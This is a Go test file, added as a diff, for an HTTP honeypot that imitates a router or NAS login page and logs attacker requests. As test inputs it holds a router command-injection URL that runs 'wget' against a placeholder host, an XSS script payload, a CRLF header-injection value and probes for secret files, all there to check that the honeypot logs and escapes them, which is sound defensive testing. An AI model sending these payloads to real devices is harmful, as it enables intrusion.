@@ -1,0 +1,390 @@
+package http
+
+import (
+	"bufio"
+	"context"
+	"io"
+	"net"
+	nethttp "net/http"
+	"net/url"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"honeysens/app/honeypot"
+	"honeysens/app/model"
+)
+
+func TestMain(m *testing.M) {
+	readHeaderTimeout = 2 * time.Second
+	keepAliveIdle = 2 * time.Second
+	os.Exit(m.Run())
+}
+
+type recorder struct {
+	mu     sync.Mutex
+	events []*model.Event
+	signal chan struct{}
+}
+
+func newRecorder() *recorder { return &recorder{signal: make(chan struct{}, 1000)} }
+
+func (r *recorder) Report(_ context.Context, e *model.Event) error {
+	r.mu.Lock()
+	r.events = append(r.events, e)
+	r.mu.Unlock()
+	select {
+	case r.signal <- struct{}{}:
+	default:
+	}
+	return nil
+}
+
+func (r *recorder) wait(t *testing.T, n int) *model.Event {
+	t.Helper()
+	deadline := time.After(10 * time.Second)
+	for {
+		r.mu.Lock()
+		if len(r.events) >= n {
+			e := r.events[n-1]
+			r.mu.Unlock()
+			return e
+		}
+		r.mu.Unlock()
+		select {
+		case <-r.signal:
+		case <-time.After(50 * time.Millisecond):
+		case <-deadline:
+			t.Fatalf("event %d not reported", n)
+		}
+	}
+}
+
+func testLimits() honeypot.Limits {
+	lim := honeypot.DefaultLimits
+	lim.IdleTimeout = 5 * time.Second
+	lim.TotalTimeout = 20 * time.Second
+	return lim
+}
+
+func start(t *testing.T, cfg Config) (*Service, *recorder) {
+	t.Helper()
+	cfg.Listen = "127.0.0.1:0"
+	if err := cfg.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	svc := New(cfg, testLimits(), nil)
+	rec := newRecorder()
+	if err := svc.Start(rec); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(svc.Stop)
+	return svc, rec
+}
+
+func details(e *model.Event) string {
+	var sb strings.Builder
+	for _, d := range e.Details {
+		sb.WriteString(d.Data + "\n")
+	}
+	return sb.String()
+}
+
+// oneConn is a client that keeps everything on one keep-alive connection.
+func oneConn() (*nethttp.Client, *nethttp.Transport) {
+	tr := &nethttp.Transport{MaxConnsPerHost: 1, MaxIdleConnsPerHost: 1}
+	return &nethttp.Client{Transport: tr, Timeout: 10 * time.Second,
+		CheckRedirect: func(*nethttp.Request, []*nethttp.Request) error { return nethttp.ErrUseLastResponse }}, tr
+}
+
+func get(t *testing.T, c *nethttp.Client, req *nethttp.Request) (*nethttp.Response, string) {
+	t.Helper()
+	resp, err := c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	return resp, string(b)
+}
+
+func req(t *testing.T, method, u string, body string) *nethttp.Request {
+	t.Helper()
+	var rd io.Reader
+	if body != "" {
+		rd = strings.NewReader(body)
+	}
+	r, err := nethttp.NewRequest(method, u, rd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Header.Set("User-Agent", "Mozilla/5.0 (test)")
+	if body != "" {
+		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	return r
+}
+
+func TestLoginForm(t *testing.T) {
+	svc, rec := start(t, DefaultConfig())
+	base := "http://" + svc.Addr().String()
+	c, tr := oneConn()
+	resp, body := get(t, c, req(t, "GET", base+"/", ""))
+	if resp.StatusCode != 200 || resp.Header.Get("Server") != "lighttpd/1.4.69" || !strings.Contains(body, `<form method="post" action="/login"`) ||
+		!strings.Contains(body, "NAS Manager") {
+		t.Fatalf("GET /: %d %v\n%s", resp.StatusCode, resp.Header, body)
+	}
+	form := url.Values{"username": {`admin"><script>alert(1)</script>`}, "password": {"s3cret pw"}}.Encode()
+	resp, body = get(t, c, req(t, "POST", base+"/login", form))
+	if resp.StatusCode != 200 || !strings.Contains(body, "Invalid user name or password.") {
+		t.Fatalf("POST /login: %d\n%s", resp.StatusCode, body)
+	}
+	if strings.Contains(body, "<script>alert") || !strings.Contains(body, `value="admin&#34;&gt;&lt;script&gt;`) {
+		t.Errorf("user name not escaped:\n%s", body)
+	}
+	tr.CloseIdleConnections()
+	e := rec.wait(t, 1)
+	if want := `HTTP: POST /login with credentials admin"><script>alert(1)</script>/s3cret pw (+1 request)`; e.Summary != want {
+		t.Errorf("summary %q\nwant    %q", e.Summary, want)
+	}
+	d := details(e)
+	for _, want := range []string{"GET / HTTP/1.1 → 200", "User-Agent: Mozilla/5.0 (test)", "POST /login HTTP/1.1 → 200",
+		"body (", `login admin"><script>alert(1)</script> / s3cret pw (form POST /login): rejected`, "closed by client", "requests: 2, login attempts: 1"} {
+		if !strings.Contains(d, want) {
+			t.Errorf("details lack %q:\n%s", want, d)
+		}
+	}
+	if e.Classification != model.ClassHoneypot || e.Service != "http" || e.Source.String() != "127.0.0.1" {
+		t.Errorf("event %+v", e)
+	}
+}
+
+func TestBasicAuth(t *testing.T) {
+	svc, rec := start(t, Config{BasicAuth: []string{"/admin", "/manager/html"}, Realm: "Router"})
+	base := "http://" + svc.Addr().String()
+	c, tr := oneConn()
+	r := req(t, "GET", base+"/admin/config.php", "")
+	r.SetBasicAuth("root", "hunter2:x")
+	resp, body := get(t, c, r)
+	if resp.StatusCode != 401 || resp.Header.Get("WWW-Authenticate") != `Basic realm="Router"` || !strings.Contains(body, "<title>401 Unauthorized</title>") {
+		t.Fatalf("%d %v\n%s", resp.StatusCode, resp.Header, body)
+	}
+	tr.CloseIdleConnections()
+	e := rec.wait(t, 1)
+	if e.Summary != "HTTP: GET /admin/config.php with credentials root/hunter2:x" {
+		t.Errorf("summary %q", e.Summary)
+	}
+	if !strings.Contains(details(e), "login root / hunter2:x (basic auth GET /admin/config.php): rejected") {
+		t.Errorf("details\n%s", details(e))
+	}
+	resp, _ = get(t, c, req(t, "GET", base+"/manager/html", ""))
+	if resp.StatusCode != 401 {
+		t.Errorf("/manager/html: %d", resp.StatusCode)
+	}
+	resp, _ = get(t, c, req(t, "GET", base+"/administrator", ""))
+	if resp.StatusCode != 404 {
+		t.Errorf("/administrator: %d", resp.StatusCode)
+	}
+}
+
+func TestScannerPaths(t *testing.T) {
+	svc, rec := start(t, DefaultConfig())
+	base := "http://" + svc.Addr().String()
+	c, tr := oneConn()
+	for _, tc := range []struct {
+		method, path string
+		code         int
+	}{
+		{"GET", "/.env", 404}, {"GET", "/wp-login.php", 404}, {"GET", "/phpmyadmin/", 404},
+		{"GET", "/cgi-bin/", 403}, {"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget%20http://x/y`)", 404},
+		{"GET", "/robots.txt", 200}, {"PUT", "/x", 501}, {"OPTIONS", "/", 200}, {"HEAD", "/", 200},
+		{"GET", "/admin", 401}, {"GET", "/index.html?user=a&pass=b", 200},
+	} {
+		resp, body := get(t, c, req(t, tc.method, base+tc.path, ""))
+		if resp.StatusCode != tc.code || resp.Header.Get("Server") != "lighttpd/1.4.69" {
+			t.Errorf("%s %s: %d %v", tc.method, tc.path, resp.StatusCode, resp.Header)
+		}
+		if tc.code == 404 && !strings.Contains(body, "<h1>404 Not Found</h1>") {
+			t.Errorf("404 page %q", body)
+		}
+	}
+	tr.CloseIdleConnections()
+	e := rec.wait(t, 1)
+	if e.Summary != "HTTP: GET /.env (+10 requests)" {
+		t.Errorf("summary %q", e.Summary)
+	}
+	d := details(e)
+	for _, want := range []string{"GET /.env HTTP/1.1 → 404", "PUT /x HTTP/1.1 → 501", "wget%20http://x/y`) HTTP/1.1 → 404", "GET /index.html?user=a&pass=b HTTP/1.1 → 200"} {
+		if !strings.Contains(d, want) {
+			t.Errorf("details lack %q:\n%s", want, d)
+		}
+	}
+}
+
+// raw sends bytes on a fresh connection and returns everything the server answers until it
+// closes the connection (or the deadline passes).
+func raw(t *testing.T, svc *Service, in string) string {
+	t.Helper()
+	c, err := net.Dial("tcp", svc.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	c.SetDeadline(time.Now().Add(8 * time.Second))
+	go c.Write([]byte(in))
+	out, _ := io.ReadAll(c)
+	return string(out)
+}
+
+func TestMalformed(t *testing.T) {
+	svc, rec := start(t, DefaultConfig())
+	for i, tc := range []struct{ in, want string }{
+		// A TLS ClientHello has no line end: net/http waits for one until the header timeout.
+		{"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + strings.Repeat("\x00", 40), ""},
+		{"GARBAGE\r\n\r\n", "HTTP/1.1 400 Bad Request"},
+		{"GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("a", 20000) + "\r\n\r\n", "HTTP/1.1 431 Request Header Fields Too Large"},
+		{"GET / HTTP/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request"}, // no Host
+		{"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n", "HTTP/1.1 400 Bad Request"},
+		{"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP/1.1 400 Bad Request"},
+	} {
+		out := raw(t, svc, tc.in)
+		if !strings.HasPrefix(out, tc.want) && out != "" {
+			t.Errorf("%d: got %.80q", i, out)
+		}
+		e := rec.wait(t, i+1)
+		want := "HTTP: malformed request"
+		if tc.want == "" {
+			want = "HTTP: incomplete request (timeout)"
+		}
+		if e.Summary != want || !strings.Contains(details(e), "unanswered input: ") {
+			t.Errorf("%d: summary %q\n%s", i, e.Summary, details(e))
+		}
+	}
+}
+
+func TestSlowHeaders(t *testing.T) {
+	svc, rec := start(t, DefaultConfig())
+	begin := time.Now()
+	raw(t, svc, "GET / HTTP/1.1\r\nHost: x\r\n") // never ends the header
+	if d := time.Since(begin); d > 6*time.Second {
+		t.Errorf("slow header held %s", d)
+	}
+	if e := rec.wait(t, 1); e.Summary != "HTTP: incomplete request (timeout)" {
+		t.Errorf("summary %q\n%s", e.Summary, details(e))
+	}
+}
+
+func TestRequestLimitAndBody(t *testing.T) {
+	svc, rec := start(t, Config{MaxRequests: 3, MaxBody: 100})
+	var in strings.Builder
+	for range 5 {
+		in.WriteString("GET /x HTTP/1.1\r\nHost: h\r\n\r\n")
+	}
+	out := raw(t, svc, in.String())
+	if n := strings.Count(out, "HTTP/1.1 404"); n != 3 || !strings.Contains(out, "Connection: close") {
+		t.Errorf("%d responses:\n%s", n, out)
+	}
+	e := rec.wait(t, 1)
+	if e.Summary != "HTTP: GET /x (+2 requests)" || !strings.Contains(details(e), "request limit reached") {
+		t.Errorf("summary %q\n%s", e.Summary, details(e))
+	}
+
+	out = raw(t, svc, "POST /login HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"+strings.Repeat("u", 1000))
+	if !strings.HasPrefix(out, "HTTP/1.1 413") {
+		t.Errorf("big body: %.80q", out)
+	}
+	if d := details(rec.wait(t, 2)); !strings.Contains(d, "body (100 bytes, cut): uuu") {
+		t.Errorf("details\n%s", d)
+	}
+}
+
+func TestStopReportsOpenConnections(t *testing.T) {
+	svc, rec := start(t, DefaultConfig())
+	c, err := net.Dial("tcp", svc.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	c.Write([]byte("GET /.git/config HTTP/1.1\r\nHost: h\r\n\r\n"))
+	c.SetDeadline(time.Now().Add(5 * time.Second))
+	if _, err := nethttp.ReadResponse(bufio.NewReader(c), nil); err != nil {
+		t.Fatal(err)
+	}
+	svc.Stop()
+	e := rec.wait(t, 1)
+	if e.Summary != "HTTP: GET /.git/config" || !strings.Contains(details(e), "server stopped") {
+		t.Errorf("summary %q\n%s", e.Summary, details(e))
+	}
+}
+
+func TestBareConnect(t *testing.T) {
+	svc, rec := start(t, DefaultConfig())
+	c, _ := net.Dial("tcp", svc.Addr().String())
+	c.Close()
+	if e := rec.wait(t, 1); e.Summary != "HTTP: connection without request" || e.Classification != model.ClassConnAttempt {
+		t.Errorf("%q %v", e.Summary, e.Classification)
+	}
+}
+
+func TestGuardLimit(t *testing.T) {
+	lim := testLimits()
+	lim.MaxPerSource = 2
+	svc := New(Config{Listen: "127.0.0.1:0"}, lim, nil)
+	rec := newRecorder()
+	if err := svc.Start(rec); err != nil {
+		t.Fatal(err)
+	}
+	defer svc.Stop()
+	var conns []net.Conn
+	for range 2 {
+		c, _ := net.Dial("tcp", svc.Addr().String())
+		defer c.Close()
+		conns = append(conns, c)
+	}
+	time.Sleep(100 * time.Millisecond)
+	out := raw(t, svc, "GET / HTTP/1.0\r\n\r\n")
+	if out != "" {
+		t.Errorf("third connection served: %.80q", out)
+	}
+}
+
+func TestValidate(t *testing.T) {
+	good := DefaultConfig()
+	if err := good.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	bad := Config{Listen: ":x", Server: "lighttpd\r\nSet-Cookie: a=b", Realm: `a"b`, BasicAuth: []string{"admin"}, MaxBody: -1}
+	me, ok := bad.Validate().(*model.Error)
+	if !ok {
+		t.Fatal("no error")
+	}
+	for _, f := range []string{"listen", "server", "realm", "basic_auth", "max_body"} {
+		if me.Fields[f] == "" {
+			t.Errorf("no message for %s: %v", f, me.Fields)
+		}
+	}
+}
+
+func TestHelpers(t *testing.T) {
+	for h, want := range map[string]string{
+		"Basic YWRtaW46YWRtaW4=": "admin/admin", "basic YWRtaW46YWRtaW4": "admin/admin", "Basic Og==": "/",
+		"Bearer x": "", "Basic !!!": "", "Basic YWRtaW4=": "", "": "",
+	} {
+		u, p, ok := basicAuth(h)
+		got := ""
+		if ok {
+			got = u + "/" + p
+		}
+		if got != want {
+			t.Errorf("basicAuth(%q) = %q, want %q", h, got, want)
+		}
+	}
+	if u, p, ok := formCredentials("", []byte("USER=a&Pwd=b&x=%zz")); !ok || u != "a" || p != "b" {
+		t.Errorf("form: %q %q %v", u, p, ok)
+	}
+	if _, _, ok := formCredentials("application/json", []byte(`{"username":"a"}`)); ok {
+		t.Error("json taken as form")
+	}
+}
